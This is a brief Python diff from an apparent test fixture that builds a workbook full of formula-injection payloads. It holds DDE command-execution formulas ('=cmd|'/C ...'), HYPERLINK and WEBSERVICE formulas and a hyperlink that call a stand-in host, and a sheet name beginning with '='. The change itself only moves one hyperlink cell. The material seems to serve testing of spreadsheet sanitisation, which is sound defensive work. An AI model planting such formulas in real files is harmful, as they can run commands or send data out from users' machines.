@@ -100,7 +100,7 @@ def armed(book: Workbook) -> None:
     page["L9"] = f"=cmd|'/C {SIGN}'!A0"
     page["L10"] = f'=HYPERLINK("http://{SIGN}.example","x")'
     page["L11"] = f"=WEBSERVICE(\"http://{SIGN}.example\")&'[1]x'!A1"
-    page["L12"].hyperlink = f"http://{SIGN}.example/"
+    page["N12"].hyperlink = f"http://{SIGN}.example/"
     more = book.create_sheet(f"={SIGN}")
     more["A1"] = f"=cmd|'/C {SIGN}'!A0"
     more.conditional_formatting.add("A1:A9", _rule())
